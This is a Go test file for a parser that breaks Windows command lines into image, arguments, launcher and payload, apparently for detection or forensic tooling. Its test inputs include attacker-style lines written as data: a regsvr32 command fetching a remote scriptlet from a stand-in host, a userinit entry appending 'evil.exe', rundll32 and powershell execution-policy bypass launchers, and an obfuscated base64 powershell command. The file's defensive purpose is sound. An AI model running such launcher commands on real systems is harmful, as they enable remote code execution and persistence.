package winpath

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestParseCommandLine(t *testing.T) {
	tests := []struct {
		in   string
		want CommandLine
	}{
		{`C:\Windows\System32\smss.exe`, CommandLine{Image: `C:\Windows\System32\smss.exe`}},
		{`"C:\Program Files\Windows Defender\MSASCuiL.exe"`,
			CommandLine{Image: `C:\Program Files\Windows Defender\MSASCuiL.exe`, Quoted: true}},
		{`"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /c`,
			CommandLine{Image: `C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`, Quoted: true, Args: []string{"/c"}, ArgString: "/c"}},
		{`C:\Program Files\My App\x.exe -a`,
			CommandLine{Image: `C:\Program Files\My App\x.exe`, Unquoted: true, Args: []string{"-a"}, ArgString: "-a"}},
		{`C:\Program Files\My App\run.bat`, CommandLine{Image: `C:\Program Files\My App\run.bat`, Unquoted: true}},
		{`C:\Windows\system32\userinit.exe,`, CommandLine{Image: `C:\Windows\system32\userinit.exe`}},
		{`C:\Windows\system32\userinit.exe,C:\evil.exe`,
			CommandLine{Image: `C:\Windows\system32\userinit.exe`, Args: []string{`C:\evil.exe`}, ArgString: `C:\evil.exe`}},
		{`%SystemRoot%\system32\svchost.exe -k netsvcs -p`,
			CommandLine{Image: `%SystemRoot%\system32\svchost.exe`, Args: []string{"-k", "netsvcs", "-p"}, ArgString: "-k netsvcs -p"}},
		{`autocheck autochk *`, CommandLine{Image: "autocheck", Args: []string{"autochk", "*"}, ArgString: "autochk *"}},
		{`C:\tools\x -flag C:\Program Files\y.exe`, // no extension: do not run into options
			CommandLine{Image: `C:\tools\x`, Args: []string{"-flag", `C:\Program`, `Files\y.exe`}, ArgString: `-flag C:\Program Files\y.exe`}},
		{"  \t\"C:\\a b\\c.exe\"\targ\x00", CommandLine{Image: `C:\a b\c.exe`, Quoted: true, Args: []string{"arg"}, ArgString: "arg"}},
		{`"C:\unterminated\x.exe arg`, CommandLine{Image: `C:\unterminated\x.exe arg`, Quoted: true}},
		{``, CommandLine{}},
		// CommandLineToArgvW backslash and quote rules. Two quotes inside
		// quotes give one and end the quoting, so the last quote opens a
		// quoted run that takes " k\l" along.
		{`p.exe a\\\"b "c d" e\\"f g" h\\\\ "i""j" k\l`, CommandLine{Image: "p.exe",
			Args:      []string{`a\"b`, "c d", `e\f g`, `h\\\\`, `i"j k\l`},
			ArgString: `a\\\"b "c d" e\\"f g" h\\\\ "i""j" k\l`}},
		// Launchers.
		{`rundll32.exe C:\Users\Public\x.dat,DllRegisterServer 1`, CommandLine{Image: "rundll32.exe",
			Args: []string{`C:\Users\Public\x.dat,DllRegisterServer`, "1"}, ArgString: `C:\Users\Public\x.dat,DllRegisterServer 1`,
			Launcher: "rundll32", Payload: `C:\Users\Public\x.dat`, Entry: "DllRegisterServer"}},
		{`rundll32 "C:\Program Files\A B\c.dll",Run`, CommandLine{Image: "rundll32",
			Args: []string{`C:\Program Files\A B\c.dll,Run`}, ArgString: `"C:\Program Files\A B\c.dll",Run`,
			Launcher: "rundll32", Payload: `C:\Program Files\A B\c.dll`, Entry: "Run"}},
		{`regsvr32 /s /i:http://x.example/a.sct scrobj.dll`, CommandLine{Image: "regsvr32",
			Args: []string{"/s", "/i:http://x.example/a.sct", "scrobj.dll"}, ArgString: `/s /i:http://x.example/a.sct scrobj.dll`,
			Launcher: "regsvr32", Payload: "scrobj.dll"}},
		{`cmd.exe /q /c "echo a & echo b"`, CommandLine{Image: "cmd.exe",
			Args: []string{"/q", "/c", "echo a & echo b"}, ArgString: `/q /c "echo a & echo b"`,
			Launcher: "cmd", Payload: "echo a & echo b"}},
		{`wscript.exe //B //Nologo C:\Users\a\run.vbs`, CommandLine{Image: "wscript.exe",
			Args: []string{"//B", "//Nologo", `C:\Users\a\run.vbs`}, ArgString: `//B //Nologo C:\Users\a\run.vbs`,
			Launcher: "wscript", Payload: `C:\Users\a\run.vbs`}},
		{`powershell -NoProfile -ExecutionPolicy Bypass -File C:\s\a.ps1`, CommandLine{Image: "powershell",
			Args: []string{"-NoProfile", "-ExecutionPolicy", "Bypass", "-File", `C:\s\a.ps1`}, ArgString: `-NoProfile -ExecutionPolicy Bypass -File C:\s\a.ps1`,
			Launcher: "powershell", Payload: `C:\s\a.ps1`}},
		{`powershell.exe -c "Get-Date; whoami"`, CommandLine{Image: "powershell.exe",
			Args: []string{"-c", "Get-Date; whoami"}, ArgString: `-c "Get-Date; whoami"`,
			Launcher: "powershell", Payload: "Get-Date; whoami"}},
		// "whoami" in UTF-16LE, base64; en dash instead of '-'.
		{"powershell \u2013e dwBoAG8AYQBtAGkA", CommandLine{Image: "powershell",
			Args: []string{"\u2013e", "dwBoAG8AYQBtAGkA"}, ArgString: "\u2013e dwBoAG8AYQBtAGkA",
			Launcher: "powershell", Decoded: "whoami"}},
	}
	for _, tt := range tests {
		tt.want.Raw = tt.in
		got := ParseCommandLine(tt.in)
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("ParseCommandLine(%q) (-want +got):\n%s", tt.in, diff)
		}
	}
}

func TestDecodePowerShellBounded(t *testing.T) {
	// 1 MiB of valid base64 decodes to at most maxDecoded bytes.
	got := decodePowerShell(strings.Repeat("QQBBAA==", 1)[:6] + strings.Repeat("QQBB", 1<<18))
	if len(got) == 0 || len(got) > maxDecoded {
		t.Errorf("decoded %d bytes, want 1..%d", len(got), maxDecoded)
	}
	if got := decodePowerShell("not base64!"); got != "" {
		t.Errorf("invalid input decoded to %q", got)
	}
}

func TestSplitChain(t *testing.T) {
	got := splitChain(`start "" /min C:\a.exe x & call b.bat && echo "a|b" ^& c | more || start /b d.exe`)
	want := []string{`C:\a.exe x`, `b.bat`, `echo "a|b" ^& c`, `more`, `d.exe`}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("splitChain (-want +got):\n%s", diff)
	}
	if n := len(splitChain(strings.Repeat("a&", 1000))); n != maxChain {
		t.Errorf("splitChain kept %d commands, want %d", n, maxChain)
	}
}
